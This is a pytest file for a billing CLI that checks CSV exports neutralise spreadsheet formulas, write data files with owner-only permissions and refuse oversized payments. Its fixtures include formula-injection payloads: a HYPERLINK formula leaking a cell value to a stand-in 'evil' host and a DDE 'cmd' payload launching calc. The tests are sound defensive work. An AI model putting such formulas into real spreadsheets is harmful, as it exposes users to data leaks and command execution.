"""Small safety items of the CLI: spreadsheet formulas in exports, private files, and a
ceiling on hand-typed payments (in-process through click, a real SQLite file)."""

from __future__ import annotations

import csv
import io
import os
import sqlite3
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from billing_client.local.csvio import from_spreadsheet, spreadsheet_safe
from pbxbridge.cli.common import CliState
from pbxbridge.cli.main import cli
from primitives.clock import FixedClock

CLOCK = FixedClock(datetime(2026, 11, 22, 10, 0, tzinfo=UTC))
HEADER = "login,name,phones,balance,credit,credit_expire,tariff,fee,frozen,disabled\n"


@pytest.fixture(autouse=True)
def shell_umask() -> Iterator[None]:
    """What a shell usually has: new files 0644, so a 0600 file is the code's doing."""
    old_umask = os.umask(0o022)
    yield
    os.umask(old_umask)


@pytest.fixture
def config(tmp_path: Path) -> Path:
    path = tmp_path / "pbxbridge.toml"
    path.write_text('[database]\nurl = "sqlite+aiosqlite:///pbx.db"\n', encoding="utf-8")
    assert pbx(path, "db", "upgrade").exit_code == 0
    return path


def pbx(config: Path, *args: str) -> Result:
    state = CliState(None, clock=CLOCK)
    return CliRunner().invoke(cli, ["--config", str(config), *args], obj=state)


def ok(result: Result) -> str:
    assert result.exit_code == 0, result.output + repr(result.exception)
    return result.stdout


def mode(path: Path) -> int:
    return path.stat().st_mode & 0o777


@pytest.mark.parametrize(
    "value",
    ["=1+1", "+x", "-x", "@x", "\tx", "\rx", "'=x", "''", "'", "'a", "a=b", "", "-", "=", "''=x"],
)
def test_spreadsheet_quoting_is_undone_exactly(value: str) -> None:
    safe = spreadsheet_safe(value)
    assert safe[:1] not in {"=", "+", "-", "@", "\t", "\r"}
    assert from_spreadsheet(safe) == value


def test_export_neutralises_formulas_and_import_takes_them_back(
    config: Path, tmp_path: Path
) -> None:
    people = [
        ("-dash", '=HYPERLINK("http://evil/?"&A1,"click")', "+Plan"),
        ("@ops", "@SUM(1+1)*cmd|' /C calc'!A0", "-10%"),
        ("plain", "'=already quoted", "'"),
    ]
    for n, (login, name, tariff) in enumerate(people):
        phone = f"050111000{n}"
        options = ("--name", name, "--tariff", tariff, "--phone", phone, "--balance", "-10")
        ok(pbx(config, "subscribers", "add", *options, "--", login))
    exported = tmp_path / "export.csv"
    ok(pbx(config, "subscribers", "export", str(exported)))
    assert mode(exported) == 0o600
    rows = list(csv.DictReader(io.StringIO(exported.read_text(encoding="utf-8"))))
    by_login = {r["login"]: r for r in rows}
    assert set(by_login) == {"'-dash", "'@ops", "plain"}
    assert by_login["'-dash"]["name"] == "'" + people[0][1]
    assert by_login["'-dash"]["tariff"] == "'+Plan"
    assert by_login["'@ops"]["tariff"] == "'-10%"
    assert by_login["plain"]["name"] == "''=already quoted"
    assert by_login["plain"]["tariff"] == "'"
    for row in rows:  # phones and amounts as they are
        assert row["phones"].startswith("+380")
        assert row["balance"] == "-10.00"

    for login, _, _ in people:
        ok(pbx(config, "subscribers", "delete", "--yes", "--", login))
    ok(pbx(config, "subscribers", "import", str(exported)))
    again = tmp_path / "again.csv"
    ok(pbx(config, "subscribers", "export", str(again)))
    assert again.read_text(encoding="utf-8") == exported.read_text(encoding="utf-8")
    for login, name, tariff in people:
        shown = ok(pbx(config, "subscribers", "show", "--", login))
        assert f"name          {name}\n" in shown
        assert f"tariff        {tariff}\n" in shown


def test_a_cell_quoted_by_hand_is_imported_without_its_quote(config: Path, tmp_path: Path) -> None:
    data = tmp_path / "typed.csv"
    data.write_text(HEADER + "typed,'=2+2,0501112233,0,0,,'@home,100,0,0\n", encoding="utf-8")
    ok(pbx(config, "subscribers", "import", str(data)))
    shown = ok(pbx(config, "subscribers", "show", "typed"))
    assert "name          =2+2\n" in shown
    assert "tariff        @home\n" in shown


def test_files_with_data_are_written_for_their_owner_only(config: Path, tmp_path: Path) -> None:
    ok(pbx(config, "subscribers", "add", "ivan", "--phone", "0501110001"))
    existing = tmp_path / "existing.csv"
    existing.write_text("old\n", encoding="utf-8")
    existing.chmod(0o644)
    ok(pbx(config, "subscribers", "export", str(existing)))
    assert mode(existing) == 0o600
    assert "ivan" in existing.read_text(encoding="utf-8")

    cards = tmp_path / "cards.csv"
    ok(
        pbx(
            config, "paycards", "generate", "--count", "2", "--amount", "10", "--output", str(cards)
        )
    )
    assert mode(cards) == 0o600

    backup = tmp_path / "backup.db"
    ok(pbx(config, "db", "backup", str(backup)))
    assert mode(backup) == 0o600
    with sqlite3.connect(backup) as copy:
        assert copy.execute("SELECT login FROM billing_subscribers").fetchall() == [("ivan",)]
    assert pbx(config, "db", "backup", str(backup)).exit_code == 1  # never overwritten


def test_payments_above_the_ceiling_need_force(config: Path) -> None:
    ok(pbx(config, "subscribers", "add", "ivan"))
    refused = pbx(config, "payments", "add", "ivan", "100000.01")
    assert refused.exit_code == 1
    assert "more than billing.max_payment (100000)" in refused.output
    assert "--force" in refused.output
    assert "balance       0.00" in ok(pbx(config, "subscribers", "show", "ivan"))
    assert "ivan" not in ok(pbx(config, "audit"))
    ok(pbx(config, "payments", "add", "ivan", "100000"))
    ok(pbx(config, "payments", "add", "ivan", "250000", "--force"))
    assert "balance       350000.00" in ok(pbx(config, "subscribers", "show", "ivan"))

    config.write_text(
        config.read_text(encoding="utf-8") + "[billing]\nmax_payment = 500\n", encoding="utf-8"
    )
    assert pbx(config, "payments", "add", "ivan", "--", "-600").exit_code == 1  # either sign
    assert pbx(config, "payments", "add", "ivan", "600").exit_code == 1
    ok(pbx(config, "payments", "add", "ivan", "--", "-500"))
